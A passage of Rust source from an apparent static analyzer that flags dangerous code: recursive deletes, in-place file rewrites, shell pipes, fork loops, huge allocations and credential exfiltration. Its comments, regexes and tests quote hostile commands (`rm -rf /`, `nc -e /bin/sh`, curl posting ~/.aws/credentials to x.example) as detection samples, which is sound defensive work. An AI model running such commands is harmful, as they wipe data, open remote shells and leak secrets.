            "writeFileSync" | "appendFileSync" | "writeFile" | "appendFile" | "write_text"
            | "write_bytes" | "write" | "file_put_contents" | "binwrite" | "writeTextFile"
            | "writeTextFileSync"
                if matches!(toks.get(i + 1), Some(Tok::Punct('('))) =>
            {
                let Some((args, _)) = call_args(toks, i + 1) else {
                    continue;
                };
                let parts = split_args(args);
                let append = last.starts_with("append")
                    || args
                        .iter()
                        .any(|t| matches!(t, Tok::Ident(f) if f == "FILE_APPEND"))
                    || option_true(args, "append");
                if last == "write_text" || last == "write_bytes" {
                    // `Path(p).write_text(s)` / `(Path.home()/".bashrc").write_text(s)`: the path is before.
                    let start = toks[..i]
                        .iter()
                        .rposition(|t| matches!(t, Tok::Punct(';')))
                        .map(|p| p + 1)
                        .unwrap_or(0);
                    let mut target: Vec<Tok> = toks[start..i].to_vec();
                    target.retain(|t| !matches!(t, Tok::Punct('/')));
                    let receiver = name
                        .strip_suffix(".write_text")
                        .or_else(|| name.strip_suffix(".write_bytes"))
                        .and_then(|recv| paths.get(recv).cloned());
                    let from_target = path_of(&target);
                    let by_receiver = from_target.is_none();
                    if let Some(path) = from_target.or(receiver) {
                        // `p.write_text(p.read_text() + TEXT)`: TEXT appended.
                        let first = parts.first().copied().unwrap_or(&[]);
                        let rewritten = first.iter().any(
                            |t| matches!(t, Tok::Ident(n) if n.ends_with("read_text") || n.ends_with("read_bytes")),
                        );
                        let text = literal(first, vars).or_else(|| {
                            rewritten.then(|| {
                                first
                                    .iter()
                                    .filter_map(|t| match t {
                                        Tok::Str(s) => Some(s.as_str()),
                                        _ => None,
                                    })
                                    .collect::<String>()
                            })
                        });
                        // Through the receiver's name only when the text is known (a write of
                        // unknown text to a path held in a variable was never reported).
                        if !(by_receiver && text.is_none()) {
                            r.writes.push((path, text, rewritten));
                        }
                    }
                } else if parts.len() >= 2 {
                    // A handle's `f.write(TEXT)` has one argument: its file was recorded at `open`.
                    if let Some(path) = path_of(parts[0]) {
                        r.writes.push((path, literal(parts[1], vars), append));
                    }
                }
            }
            // Perl `print F "…"` / `print $fh "…"` after an `open` to a shell or a file.
            "print" | "printf" | "say" if lang == Lang::Perl => {
                if let Some(text) = first_str_after(i + 1) {
                    if shell_handle {
                        r.runs
                            .push((Run::Shell(text), "print to a shell pipe".into()));
                    }
                }
            }
            // Ruby `IO.popen("sh", "w") { |p| p.puts "…" }`: lines written to a shell's stdin.
            "puts" | "print" | "write" if lang == Lang::Ruby && name.contains('.') => {
                // (`IO.popen("sh", "w")` reads as the argv `sh w`: the mode is not a word.)
                let to_shell = r.runs.iter().any(|(run, call)| {
                    call.ends_with("popen")
                        && match run {
                            Run::Shell(s) => is_sh_or_bash(s.trim()),
                            Run::Argv(a) => a.first().is_some_and(|p| is_sh_or_bash(p)),
                        }
                });
                if to_shell {
                    if let Some(text) = first_str_after(i + 1) {
                        r.runs
                            .push((Run::Shell(text), "text written to a shell's stdin".into()));
                    }
                }
            }
            // `Popen(["sh"], stdin=PIPE).communicate(b"…")`, `proc.stdin.write("…")`.
            "communicate" | "stdin.write" => {
                let feeds_shell = r.runs.iter().any(|(run, _)| match run {
                    Run::Argv(a) => a.len() == 1 && is_sh_or_bash(&a[0]),
                    Run::Shell(s) => is_sh_or_bash(s.trim()),
                });
                if feeds_shell {
                    if let Some(text) = first_str_after(i + 1) {
                        r.runs
                            .push((Run::Shell(text), "text written to a shell's stdin".into()));
                    }
                }
            }
            _ => {}
        }
    }
}

/// Deletes applied to what an enumeration yields: `for f in os.walk("/")… os.remove(…)`,
/// `[p.unlink() for p in Path.home().rglob("*")]`, `array_map("unlink", glob("/etc/*"))`,
/// `find(sub { unlink $_ }, "/etc")`, `Dir.glob("/etc/**/*").each { File.delete(f) }`. The effect
/// is that of `rm -rf` on the root (a walk) or on the listed directory or pattern (a list).
fn enumerated_deletes(
    lang: Lang,
    toks: &[Tok],
    v: &Vocab,
    paths: &HashMap<String, String>,
    vars: &HashMap<String, String>,
    cwd: Option<&str>,
    r: &mut Report,
) {
    let path_of = |arg: &[Tok]| path_value(arg, v, paths, vars);
    // A delete of something computed (an enumerated entry), or the delete passed as a callback
    // (`array_map("unlink", …)`, `map(os.remove, …)`, `.each(&File.method(:delete))`). Deletes of
    // fixed paths (`os.remove("out.txt")`) do not apply to an enumeration elsewhere in the code.
    // `os.remove("/etc/passwd")`, `unlink("/etc/shadow")`: one fixed file, deleted as `rm` would.
    for (j, t) in toks.iter().enumerate() {
        let Tok::Ident(n) = t else { continue };
        if !in_list(n, &v.unlink) {
            continue;
        }
        let parts = args_of(toks, j, lang).map(split_args).unwrap_or_default();
        if let Some(p) = parts.first().and_then(|a| path_of(a)) {
            if p.starts_with('/') || p.starts_with('~') {
                r.deletes.push((p, n.clone()));
            }
        }
    }
    let deletes = toks.iter().enumerate().any(|(j, t)| match t {
        Tok::Ident(n) if in_list(n, &v.unlink) || in_list(n, &v.delete) => {
            match args_of(toks, j, lang).map(split_args) {
                Some(parts) if !parts.is_empty() => {
                    // `unlink glob(…)`: the argument is the enumeration itself.
                    path_of(parts[0]).is_none()
                        || parts[0].iter().any(|t| {
                            matches!(t, Tok::Ident(e) if in_list(e, &v.list) || in_list(e, &v.walk))
                        })
                }
                // `p.unlink()`: the receiver is the entry.
                Some(_) => true,
                None => true,
            }
        }
        Tok::Str(s) => v.unlink.iter().any(|u| u == s),
        _ => false,
    });
    // Every enumerated file rewritten in place (encrypted, XORed, zeroed): the same loss as a
    // delete when the walk covers the home directory or the root.
    let overwrites = !deletes && rewrites_entries(lang, toks, v, &path_of);
    if !deletes && !overwrites {
        return;
    }
    for (i, t) in toks.iter().enumerate() {
        let Tok::Ident(name) = t else { continue };
        let walk = in_list(name, &v.walk);
        if !walk && !in_list(name, &v.list) {
            continue;
        }
        let parts = args_of(toks, i, lang).map(split_args).unwrap_or_default();
        let arg = if lang == Lang::Perl && walk {
            parts.last().copied()
        } else {
            parts.first().copied()
        };
        // `Path.home().rglob("*")`, `Path("/usr").glob("**/*")`: the root is the receiver.
        let method = name.starts_with('.')
            || i > 0 && matches!(toks[i - 1], Tok::Punct('.'))
            || walk && name.contains('.') && !v.walk.iter().any(|w| w == name);
        let receiver = method.then(|| receiver_path(toks, i, &path_of)).flatten();
        let root = match (receiver, arg.and_then(&path_of)) {
            (Some(base), Some(pattern)) => format!("{}/{pattern}", base.trim_end_matches('/')),
            (Some(base), None) => base,
            (None, Some(p)) => p,
            // `os.listdir()`, `os.scandir()`: the working directory.
            (None, None)
                if parts.is_empty()
                    && matches!(name.rsplit('.').next(), Some("listdir" | "scandir")) =>
            {
                ".".to_string()
            }
            (None, None) => continue,
        };
        // `os.chdir("/boot"); os.listdir(".")`: the listing is of the directory changed to.
        let root = match cwd {
            Some(dir) => join_dir(dir, &root),
            None => root,
        };
        // Entries of the project (`os.listdir(".")`, `glob("*.tmp")`) are ordinary clean-up;
        // roots outside it (absolute, home, parent) are what a wipe enumerates.
        if !(root.starts_with('/') || root.starts_with('~') || root.starts_with("..")) {
            continue;
        }
        // `**` or a walk reaches every file below the fixed part of the pattern.
        let target = if walk || root.contains("**") {
            let fixed = root.split("/**").next().unwrap_or(&root);
            let fixed = fixed.trim_end_matches("/*").to_string();
            if fixed.is_empty() {
                "/".to_string()
            } else {
                fixed
            }
        } else if root.contains(['*', '?', '[']) {
            root
        } else {
            // A directory listed then emptied entry by entry.
            format!("{}/*", root.trim_end_matches('/'))
        };
        if overwrites {
            let whole = target.trim_end_matches("/*").trim_end_matches('/');
            if matches!(whole, "" | "~" | "/home" | "/Users" | "/root") {
                r.deletes
                    .push((target, format!("{name} rewriting every file it lists")));
            }
            continue;
        }
        r.deletes.push((target, format!("{name} with a delete")));
    }
}

/// Does the code replace the content of files it did not name literally (an entry of an
/// enumeration): `p.write_bytes(…)`, `open(p, "wb")`, `fs.writeFileSync(f, …)`,
/// `open(my $fh, ">", $f)`, `File.binwrite(f, …)`?
fn rewrites_entries(
    lang: Lang,
    toks: &[Tok],
    v: &Vocab,
    path_of: &dyn Fn(&[Tok]) -> Option<String>,
) -> bool {
    const WRITE_MODES: [&str; 11] = [
        "w", "wb", "w+", "wb+", "w+b", "r+", "r+b", "rb+", ">", "+<", "+>",
    ];
    toks.iter().enumerate().any(|(j, t)| {
        let Tok::Ident(n) = t else { return false };
        let opens = matches!(n.rsplit('.').next(), Some("open" | "fopen" | "sysopen"));
        if !opens && !in_list(n, &v.overwrite) {
            return false;
        }
        let Some(parts) = args_of(toks, j, lang).map(split_args) else {
            return false;
        };
        // `p.write_bytes(data)`: the receiver is the entry.
        let receiver = n.starts_with('.')
            || j > 0 && matches!(toks[j - 1], Tok::Punct('.'))
            || v.overwrite.iter().any(|w| {
                w.strip_prefix('*')
                    .is_some_and(|m| n.ends_with(m) && n.len() > m.len())
            });
        let target = if opens && lang == Lang::Perl && parts.len() >= 3 {
            parts.get(2)
        } else {
            parts.first()
        };
        // A receiver that is a literal path (`Path("out.txt").write_text(…)`, `out.write_text`
        // with `out = "x"`) is no entry.
        let literal_receiver = match n.rsplit_once('.') {
            Some((prefix, _)) if !prefix.is_empty() => {
                path_of(&[Tok::Ident(prefix.to_string())]).is_some()
            }
            _ => receiver_path(toks, j, path_of).is_some(),
        };
        let computed = receiver && !opens && !literal_receiver
            || match target {
                Some(a) => path_of(a).is_none(),
                None => receiver,
            };
        if !computed {
            return false;
        }
        !opens
            || parts.iter().skip(1).any(|a| {
                matches!(a, [Tok::Str(m)] if WRITE_MODES.contains(&m.as_str()))
            })
            || lang == Lang::Perl
                && matches!(parts.get(1), Some([Tok::Str(m)]) if m.starts_with('>') || m.starts_with("+<"))
    })
}

/// The path a method call's receiver names (`Path.home()` in `Path.home().rglob`, `Path("/usr")`).
fn receiver_path(
    toks: &[Tok],
    i: usize,
    path_of: &dyn Fn(&[Tok]) -> Option<String>,
) -> Option<String> {
    let mut depth = 0i32;
    let mut start = i;
    while start > 0 {
        match &toks[start - 1] {
            Tok::Punct(')') | Tok::Punct(']') => depth += 1,
            Tok::Punct('(') | Tok::Punct('[') if depth > 0 => depth -= 1,
            Tok::Punct('(' | '[' | ';' | ',' | '=' | '{') => break,
            Tok::Ident(n) if depth == 0 && matches!(n.as_str(), "in" | "for" | "return") => break,
            _ => {}
        }
        start -= 1;
    }
    let mut recv: Vec<Tok> = toks[start..i]
        .iter()
        .filter(|t| !matches!(t, Tok::Ident(n) if n == "new"))
        .cloned()
        .collect();
    while matches!(recv.last(), Some(Tok::Punct('.'))) {
        recv.pop();
    }
    if recv.is_empty() {
        return None;
    }
    path_of(&recv)
}

/// The path an argument names: a Python site directory, a resolved path (home, path
/// constructors), or its literal text — placeholders (`f'{t}/'`) filled from known values first
/// when the text has them — with the home directory's variable spellings as `~`.
fn path_value(
    arg: &[Tok],
    v: &Vocab,
    paths: &HashMap<String, String>,
    vars: &HashMap<String, String>,
) -> Option<String> {
    let placeholders = arg
        .iter()
        .any(|t| matches!(t, Tok::Str(s) if s.contains(['{', '$'])));
    let p = site_dir_path(arg).or_else(|| {
        if placeholders {
            literal(arg, vars).or_else(|| resolve_path(arg, v, paths))
        } else {
            resolve_path(arg, v, paths).or_else(|| literal(arg, vars))
        }
    })?;
    Some(home_to_tilde(&p))
}

/// `$ENV{HOME}`, `${HOME}` and `$HOME` (not `$HOMEDIR`) written as `~`.
fn home_to_tilde(p: &str) -> String {
    let mut out = p.replace("$ENV{HOME}", "~").replace("${HOME}", "~");
    let mut from = 0;
    while let Some(k) = out[from..].find("$HOME").map(|k| k + from) {
        let end = k + "$HOME".len();
        let ident = out[end..]
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
        if ident {
            from = end;
        } else {
            out.replace_range(k..end, "~");
            from = k + 1;
        }
    }
    out
}

/// A path computed from Python's site directories (`site.getsitepackages()[0] + "/x.pth"`,
/// `sysconfig.get_paths()["purelib"]`, `site.USER_SITE`): `site-packages/` and the literal tail.
fn site_dir_path(arg: &[Tok]) -> Option<String> {
    let site = arg.iter().any(|t| {
        matches!(t, Tok::Ident(n) if n.contains("sitepackages") || n.ends_with("USER_SITE")
            || n.ends_with("get_paths") || n.ends_with("get_python_lib"))
    });
    let tail = arg.iter().rev().find_map(|t| match t {
        Tok::Str(s) if s.contains('.') => Some(s.trim_start_matches(['/', '\\'])),
        _ => None,
    })?;
    site.then(|| format!("site-packages/{tail}"))
}

/// The literal text written by the write calls after token `from` (`f.write(TEXT)`,
/// `f:write(TEXT)`, `f.puts TEXT`, Perl `print F TEXT`), joined; `None` when none is literal.
fn later_write_text(toks: &[Tok], from: usize, vars: &HashMap<String, String>) -> Option<String> {
    let mut out = String::new();
    for (j, t) in toks.iter().enumerate().skip(from) {
        let Tok::Ident(n) = t else { continue };
        let last = n.rsplit(['.', ':']).next().unwrap_or(n);
        if !matches!(
            last,
            "write" | "writelines" | "puts" | "print" | "printf" | "say"
        ) {
            continue;
        }
        let args = match call_args(toks, j + 1) {
            Some((a, _)) => a,
            None => &toks[j + 1..toks.len().min(j + 4)],
        };
        if let Some(text) = args.iter().find_map(|t| match t {
            Tok::Str(s) => Some(s.clone()),
            Tok::Ident(v) => vars.get(v).cloned(),
            _ => None,
        }) {
            out.push_str(&text);
        }
    }
    (!out.is_empty()).then_some(out)
}

/// What a shell/argv call runs, when its arguments are literals.
fn run_of(
    lang: Lang,
    name: &str,
    parts: &[&[Tok]],
    is_argv: bool,
    vars: &HashMap<String, String>,
) -> Option<Run> {
    // `os.spawnlp(os.P_WAIT, "rm", "rm", "-rf", "/")`: the mode comes first.
    let parts = match parts {
        [_, rest @ ..] if lang == Lang::Python && is_os_spawn(name) => rest,
        _ => parts,
    };
    // Python keyword arguments (`shell=True`, `external=True`, `cwd=…`) are not argv; `args=`
    // is the argv itself.
    let positional: Vec<&[Tok]>;
    let parts = if lang == Lang::Python {
        positional = parts
            .iter()
            .filter_map(|p| match p {
                [Tok::Ident(k), Tok::Punct('='), rest @ ..] if k == "args" => Some(rest),
                // What is fed on stdin stays: a shell given it runs it (see the caller).
                [Tok::Ident(k), Tok::Punct('='), ..] if k == "input" || k == "stdin" => Some(*p),
                [Tok::Ident(_), Tok::Punct('='), next, ..] if *next != Tok::Punct('=') => None,
                p => Some(*p),
            })
            .collect();
        &positional[..]
    } else {
        parts
    };
    let first = parts.first()?;
    // `new Deno.Command("rm", { args: ["-rf", "/"] })`: the options object holds the arguments.
    if let (Some(head), Some(opts)) = (literal(first, vars), parts.get(1)) {
        if let Some(k) = opts
            .windows(2)
            .position(|w| matches!(w, [Tok::Ident(a), Tok::Punct(':')] if a == "args"))
        {
            let list = &opts[k + 2..];
            let end = list
                .iter()
                .position(|t| matches!(t, Tok::Punct(']')))
                .map_or(list.len(), |p| p + 1);
            let Some(args) = literal_list(&list[..end], vars) else {
                // Arguments computed at run time (`args: ["-c", await body.text()]`).
                return None;
            };
            let mut argv = vec![head];
            argv.extend(args);
            return Some(Run::Argv(argv));
        }
    }
    // R `system2("rm", c("-rf", "~"))` / `system2("rm", args = "-rf ~")`: a program and its
    // arguments, pasted into one command line by R.
    if lang == Lang::R && name == "system2" {
        let program = literal(first, vars)?;
        let mut line = vec![program];
        if let Some(args) = parts.get(1) {
            let args = match args {
                [Tok::Ident(k), Tok::Punct('='), rest @ ..] if k == "args" => rest,
                _ => args,
            };
            let list = match args {
                [Tok::Ident(c), Tok::Punct('('), inner @ .., Tok::Punct(')')] if c == "c" => {
                    split_args(inner)
                        .into_iter()
                        .map(|a| match a {
                            // `shQuote("…")`: one quoted word.
                            [Tok::Ident(q), Tok::Punct('('), text @ .., Tok::Punct(')')]
                                if q == "shQuote" =>
                            {
                                literal(text, vars)
                                    .map(|t| format!("'{}'", t.replace('\'', "'\\''")))
                            }
                            _ => literal(a, vars),
                        })
                        .collect::<Option<Vec<String>>>()?
                }
                _ => vec![literal(args, vars)?],
            };
            line.extend(list);
        }
        return Some(Run::Shell(line.join(" ")));
    }
    // Perl `open(FH, "cmd |")`, `open(my $fh, "-|", "cmd")`; Ruby `open("|cmd")`.
    if name == "open" || name.ends_with(".open") {
        let strs: Vec<String> = parts.iter().filter_map(|p| literal(p, vars)).collect();
        if let Some(p) = strs.iter().position(|s| s == "-|" || s == "|-") {
            return strs.get(p + 1).map(|c| Run::Shell(c.clone()));
        }
        return strs.iter().find_map(|s| {
            let t = s.trim();
            t.strip_prefix('|')
                .or_else(|| t.strip_suffix('|'))
                .map(|c| Run::Shell(c.trim().to_string()))
        });
    }
    if matches!(lang, Lang::Perl | Lang::Ruby) {
        if let Some(argv) = spread_argv(parts, vars) {
            return Some(Run::Argv(argv));
        }
    }
    if let Some(list) = list_value(first, vars) {
        return Some(Run::Argv(list));
    }
    if is_argv {
        if let Some(list) = partial_list(first, vars) {
            return Some(Run::Argv(list));
        }
    }
    let head = literal(first, vars)?;
    let rest: Vec<Option<String>> = parts[1..].iter().map(|p| literal(p, vars)).collect();
    if let Some(list) = parts
        .get(1)
        .and_then(|p| list_value(p, vars))
        .filter(|l| !l.is_empty() || is_argv)
    {
        // `spawn("sh", ["-c", "…"])`; Python's `os.execv(path, [argv0, …])` repeats argv[0].
        let mut argv = vec![head];
        let skip = usize::from(
            lang == Lang::Python && (is_os_exec(name) || is_os_spawn(name)) && !list.is_empty(),
        );
        argv.extend(list.into_iter().skip(skip));
        return Some(Run::Argv(argv));
    }
    if !rest.is_empty()
        && rest.iter().all(Option::is_some)
        && (is_argv || matches!(lang, Lang::Perl | Lang::Ruby))
    {
        let mut argv = vec![head];
        let skip = usize::from(lang == Lang::Python && (is_os_exec(name) || is_os_spawn(name)));
        argv.extend(rest.into_iter().flatten().skip(skip));
        return Some(Run::Argv(argv));
    }
    // `exec "sh", "-c", $fetched`, `spawn("bash", ["-c", body])`: a shell or an interpreter
    // given arguments computed at run time runs code computed at run time.
    let program = head.rsplit('/').next().unwrap_or(&head);
    if parts.len() > 1
        && (rest.iter().any(Option::is_none) || parts[1].first() == Some(&Tok::Punct('[')))
        && runs_code_argument(program)
    {
        return None;
    }
    Some(Run::Shell(head))
}

/// Python's `os.exec*` and `os.posix_spawn*`: the program, then its argv (argv[0] repeated).
fn is_os_exec(name: &str) -> bool {
    let last = name.rsplit('.').next().unwrap_or(name);
    last.starts_with("exec") && last.len() <= 7 || last.starts_with("posix_spawn")
}

/// Python's `os.spawnl*`/`os.spawnv*`: a mode, the program, then its argv (argv[0] repeated).
fn is_os_spawn(name: &str) -> bool {
    let last = name.rsplit('.').next().unwrap_or(name);
    last.starts_with("spawnl") || last.starts_with("spawnv")
}

/// An unbounded loop: `while True`, `while 1`, `while(true)`, `for(;;)`, `loop {`, `until false`,
/// Perl's statement-modifier `… while 1` / `fork while fork`, `itertools.count()`, `iter(int, 1)`.
fn infinite_loop(toks: &[Tok]) -> bool {
    toks.iter().enumerate().any(|(i, t)| {
        let next = toks.get(i + 1);
        let after = toks.get(i + 2);
        match t {
            Tok::Ident(k) if k == "while" => {
                let cond = match next {
                    Some(Tok::Punct('(')) => after,
                    other => other,
                };
                matches!(cond, Some(Tok::Num(_)) | Some(Tok::Punct(':')))
                    || matches!(cond, Some(Tok::Ident(c)) if matches!(c.as_str(), "True" | "true" | "fork" | "os.fork"))
            }
            Tok::Ident(k) if k == "until" => matches!(next, Some(Tok::Ident(c)) if c == "false"),
            Tok::Ident(k) if k == "loop" => matches!(next, Some(Tok::Punct('{')) | Some(Tok::Ident(_))),
            Tok::Ident(k) if k == "for" => {
                matches!(next, Some(Tok::Punct('(')))
                    && matches!(after, Some(Tok::Punct(';')))
                    && matches!(toks.get(i + 3), Some(Tok::Punct(';')))
            }
            Tok::Ident(k) if k == "itertools.count" || k == "count" => true,
            Tok::Ident(k) if k == "iter" => matches!(after, Some(Tok::Ident(c)) if c == "int"),
            _ => false,
        }
    })
}

/// A collection grows by large blocks (`a.append(" " * 10**8)`, `push @a, 1 x 1e9`,
/// `a.push(new Array(1e7))`) or a value doubles (`s += s`): in an endless loop, memory runs out.
fn grows_in_blocks(toks: &[Tok]) -> bool {
    let grows = toks.iter().any(|t| {
        matches!(t, Tok::Ident(n) if matches!(
            n.rsplit('.').next(),
            Some("append" | "push" | "extend" | "concat" | "push_back" | "unshift" | "insert")
        ))
    });
    let doubles = toks.windows(4).any(
        |w| matches!(w, [Tok::Ident(a), Tok::Punct('+'), Tok::Punct('='), Tok::Ident(b)] if a == b),
    );
    (grows && huge_count(toks)) || doubles
}

/// One allocation of tens of gigabytes or more: a repeat or buffer size of 10^10 and up
/// (`bytearray(10**12)`, `"A" x (1<<40)`, `Buffer.alloc(2**36)`, `' ' * int(1e11)`).
fn huge_allocation(toks: &[Tok]) -> bool {
    let allocator = |t: &Tok| {
        matches!(t, Tok::Ident(n) if matches!(
            n.rsplit('.').next(),
            Some("bytearray" | "bytes" | "alloc" | "allocUnsafe" | "Array" | "zeros" | "ones"
                | "empty" | "malloc" | "calloc" | "repeat" | "x")
        ))
    };
    let exponent = |base: &str, e: &str| {
        let e = e.parse::<u32>().unwrap_or(0);
        match base {
            "10" => e >= 10,
            "2" => e >= 34,
            _ => false,
        }
    };
    toks.iter().enumerate().any(|(i, t)| {
        let huge = match (t, toks.get(i + 1), toks.get(i + 2), toks.get(i + 3)) {
            (Tok::Num(b), Some(Tok::Punct('*')), Some(Tok::Punct('*')), Some(Tok::Num(e))) => {
                exponent(b, e)
            }
            (Tok::Num(one), Some(Tok::Punct('<')), Some(Tok::Punct('<')), Some(Tok::Num(e))) => {
                one == "1" && e.parse::<u32>().is_ok_and(|e| e >= 34)
            }
            (Tok::Num(n), _, _, _) => n.replace('_', "").parse::<f64>().is_ok_and(|v| v >= 1e10),
            _ => false,
        };
        // The size is an argument of an allocator or the count of a repeat, a few tokens back.
        huge && toks[i.saturating_sub(4)..i]
            .iter()
            .any(|p| allocator(p) || matches!(p, Tok::Punct('*')))
    })
}

/// A loop bound no machine survives forking that many times: a literal of 100,000 or more
/// (`range(10**9)`, `1..1e9`, `range(1000000)`).
fn huge_count(toks: &[Tok]) -> bool {
    // A range literal (`1..1e9`) counts by its upper bound.
    let big = |n: &str| {
        let upper = n.rsplit("..").next().unwrap_or(n);
        upper
            .replace('_', "")
            .parse::<f64>()
            .is_ok_and(|v| v >= 1e5)
    };
    toks.iter().enumerate().any(|(i, t)| match t {
        Tok::Num(n) if big(n) => true,
        Tok::Num(b) if b == "10" => matches!(
            (toks.get(i + 1), toks.get(i + 2), toks.get(i + 3)),
            (Some(Tok::Punct('*')), Some(Tok::Punct('*')), Some(Tok::Num(e))) if e.parse::<u32>().is_ok_and(|e| e >= 5)
        ),
        _ => false,
    })
}

/// AppleScript: `do shell script "…"`; its JavaScript flavour (`osascript -l JavaScript`):
/// `app.doShellScript("…")` and `$.NSFileManager…removeItemAtPathError(PATH, …)`.
fn applescript(code: &str) -> Report {
    let toks = tokenize(code, Style::Lua);
    let mut r = Report::default();
    for (i, t) in toks.iter().enumerate() {
        let Tok::Ident(name) = t else { continue };
        let last = name.rsplit('.').next().unwrap_or(name);
        if !matches!(toks.get(i + 1), Some(Tok::Punct('('))) {
            continue;
        }
        // JXA's bridge prefixes Objective-C names with `$.` (`$.NSHomeDirectory()`).
        let arg = toks[i + 2..]
            .iter()
            .find(|t| !matches!(t, Tok::Punct('$' | '.')));
        match (last, arg) {
            // `app.doShellScript(…)`, Terminal's `doScript(…)`, and C's `system(…)` through
            // the Objective-C bridge (`ObjC.import("stdlib"); $.system(…)`).
            ("doShellScript" | "doScript" | "system", Some(Tok::Str(s))) => {
                r.runs.push((Run::Shell(s.clone()), last.to_string()))
            }
            ("doShellScript" | "doScript" | "system", _) => r.dynamic.push(last.to_string()),
            (
                "removeItemAtPathError"
                | "removeItemAtPath"
                | "trashItemAtURLResultingItemURLError",
                arg,
            ) => {
                let path = match arg {
                    Some(Tok::Str(p)) => Some(p.clone()),
                    Some(Tok::Ident(h)) if h.ends_with("NSHomeDirectory") => Some("~".into()),
                    _ => None,
                };
                if let Some(p) = path {
                    r.deletes.push((p, last.to_string()));
                }
            }
            _ => {}
        }
    }
    // `tell application "Terminal" to do script "…"`: Terminal runs it in a new shell.
    for w in toks.windows(3) {
        if let [Tok::Ident(a), Tok::Ident(b), Tok::Str(s)] = w {
            if a == "do" && b == "script" {
                r.runs
                    .push((Run::Shell(s.clone()), "Terminal do script".into()));
            }
        }
    }
    for (i, w) in toks.windows(4).enumerate() {
        if let [Tok::Ident(a), Tok::Ident(b), Tok::Ident(c), arg] = w {
            if a == "do" && b == "shell" && c == "script" {
                match arg {
                    Tok::Str(s) => r
                        .runs
                        .push((Run::Shell(s.clone()), "do shell script".into())),
                    _ => {
                        let _ = i;
                        r.dynamic.push("do shell script".into());
                    }
                }
            }
        }
    }
    r
}

/// Most string literals of an unknown language judged as commands.
const MAX_OTHER_STRINGS: usize = 64;

/// Code in a language without a vocabulary: if it calls anything that runs a program
/// (`os:cmd`, `System.cmd`, `(system …)`, `callCommand`, `run-program`, `Runtime…exec`), each
/// string literal is a candidate command line and all of them in order a candidate argv
/// (`System.cmd("sh", ["-c", "…"])`, `(open-pipe* OPEN_READ "nc" "-e" "/bin/sh" …)`).
fn other_language(code: &str) -> Report {
    static EXEC: OnceLock<regex::Regex> = OnceLock::new();
    let exec = EXEC.get_or_init(|| {
        regex::Regex::new(r"(?i)(\bos:cmd|\bSystem\.cmd|:os\.cmd|\bsystem\b|\bexec[a-z]*\b|\bspawn[a-z_]*|run-program|run_program|callCommand|spawnCommand|readProcess|createProcess|\bpopen|open-pipe|ProcessBuilder|Runtime|shell-command|process-run|Process\.run|\bshell\b|\bopen_port\b|Port\.open|:os\.cmd|\bunix\b|\.!!?)")
            .expect("static regex")
    });
    static HOME: OnceLock<regex::Regex> = OnceLock::new();
    let home = HOME.get_or_init(|| {
        regex::Regex::new(r#"System\.user_home!?\(\)|\(user-home-dir\)|\(getenv "HOME"\)|getenv\(\s*"HOME"\s*\)|System\.getProperty\(\s*"user\.home"\s*\)|sys\.props\(\s*"user\.home"\s*\)|\bhomedir\(\)|Sys\.getenv "HOME"|os:getenv\("HOME"\)|System\.getenv\(\s*"HOME"\s*\)|\(find-system-path\s+(?:'|\(quote\s+)home-dir\)?\)|\(user-homedir-pathname\)"#)
            .expect("static regex")
    });
    static DELETE: OnceLock<regex::Regex> = OnceLock::new();
    let delete = DELETE.get_or_init(|| {
        regex::Regex::new(r"delete-directory|\.deleteDir\(|File\.rm_rf!?|file:del_dir_r|\bdel_dir_r\b|\bremove-directory\b|Directory\.Delete|deleteRecursively|delete_recursively|\brmtree\b|\bremove_tree\b|\brm-rf\b|\brm\([^)]*\brecursive\s*=\s*true")
            .expect("static regex")
    });
    let mut r = Report::default();
    // The home directory however the language spells it is the literal `~`.
    let code = home.replace_all(code, "\"~\"");
    let code = code.as_ref();
    let deleting = delete.find(code).map(|m| m.as_str().to_string());
    let running = exec.find(code).map(|m| m.as_str().to_string());
    if deleting.is_none() && running.is_none() {
        return r;
    }
    let toks = tokenize(code, Style::C);
    if let Some(call) = deleting {
        for t in toks.iter().take(MAX_OTHER_STRINGS) {
            if let Tok::Str(p) = t {
                if p.starts_with(['/', '~']) {
                    r.deletes.push((p.clone(), call.clone()));
                }
            }
        }
    }
    let Some(call) = running else {
        return r;
    };
    let strings: Vec<String> = toks
        .into_iter()
        .filter_map(|t| match t {
            Tok::Str(s) if !s.trim().is_empty() => Some(s),
            _ => None,
        })
        .take(MAX_OTHER_STRINGS)
        .collect();
    for s in &strings {
        r.runs.push((Run::Shell(s.clone()), call.clone()));
    }
    if strings.len() >= 2 {
        r.runs.push((Run::Argv(strings), call));
    }
    r
}

/// A numeric file mode as the octal digits `chmod` takes: `0o777`, `0777` (octal), `511`
/// (decimal).
fn octal_mode(n: &str) -> Option<String> {
    let value = tokens::int_literal(n)?;
    (value <= 0o7777).then(|| format!("{value:o}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn perl_glob_operator_becomes_a_glob_call() {
        assert_eq!(
            perl_glob_operators("unlink </usr/bin/*>").as_deref(),
            Some("unlink glob(\"/usr/bin/*\")")
        );
        assert_eq!(
            perl_glob_operators("unlink <~/*>").as_deref(),
            Some("unlink glob(\"~/*\")")
        );
        assert_eq!(perl_glob_operators("while (<STDIN>) { print }"), None);
        assert_eq!(perl_glob_operators("my $l = <$fh>;"), None);
        assert_eq!(perl_glob_operators("print 1 if $a <2 && $b> 3"), None);
    }

    #[test]
    fn argv_lists_keep_their_known_words_around_computed_ones() {
        let r = analyze(
            Lang::Python,
            "import subprocess, tempfile\nd = tempfile.mkdtemp()\nsubprocess.run([\"git\", \"init\", \"-q\", d])",
        );
        assert!(r.dynamic.is_empty(), "{:?}", r.dynamic);
        assert!(r.runs.iter().any(|(run, _)| matches!(run, Run::Argv(a)
            if a[..3] == ["git", "init", "-q"] && a[3] == UNKNOWN_ARG)));
        // A shell given computed code stays dynamic.
        let r = analyze(
            Lang::Python,
            "import subprocess\nsubprocess.run([\"sh\", \"-c\", input()])",
        );
        assert!(!r.dynamic.is_empty());
        // A network tool given a computed argument after a secret read sends it.
        let r = analyze(
            Lang::Python,
            "import subprocess, os\ns = open(os.path.expanduser('~/.aws/credentials')).read()\nsubprocess.run(['curl', '-d', s, 'https://x.example/c'])",
        );
        assert!(r.secret_to_network);
    }

    #[test]
    fn a_shebang_names_the_interpreter() {
        let of = Lang::from_shebang;
        assert_eq!(of("#!/usr/bin/env python3\nimport os"), Some(Lang::Python));
        assert_eq!(of("#!/usr/bin/python3.11 -u\n"), Some(Lang::Python));
        assert_eq!(of("#!/usr/bin/env -S npx tsx\n"), Some(Lang::JavaScript));
        assert_eq!(of("#!/usr/bin/env ruby\n"), Some(Lang::Ruby));
